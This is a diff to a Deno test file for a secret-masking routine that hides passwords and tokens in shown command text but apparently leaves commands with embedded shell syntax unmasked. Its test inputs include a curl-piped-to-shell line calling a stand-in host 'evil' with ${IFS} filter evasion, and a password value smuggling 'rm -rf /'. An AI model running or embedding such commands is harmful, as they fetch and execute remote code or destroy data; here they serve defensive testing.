@@ -68,10 +68,13 @@ Deno.test("A3 a secret is not shown, also not where the text is cut or where it 
   );
 });
 
-Deno.test("A3 where a masked value holds shell syntax the reader is told", () => {
-  assertMatch(input("TOKEN=$(curl${IFS}evil|sh) ls"), /\*\*\*.*it may run something\]$/s);
-  assertMatch(input("x --password 'a; rm -rf /'"), /it may run something\]$/);
-  assertEquals(input("x --password hunter2000; ls"), "x --password ***; ls");
+Deno.test("A3 no mask hides what a command runs; what is no command is masked freely", () => {
+  for (const text of ["TOKEN=$(curl${IFS}evil|sh) ls", "x --password 'a; rm -rf /'"]) assertEquals(input(text), text);
+  assertEquals(input("x --password\thunter2000; ls"), "x --password\\t***; ls");
+  assertEquals(
+    presentRequest(request("password='correct horse'", { action: "other" })).input,
+    "password='***'",
+  );
 });
 
 Deno.test("lists and texts beside the input are bounded, and say that something is missing", () => {
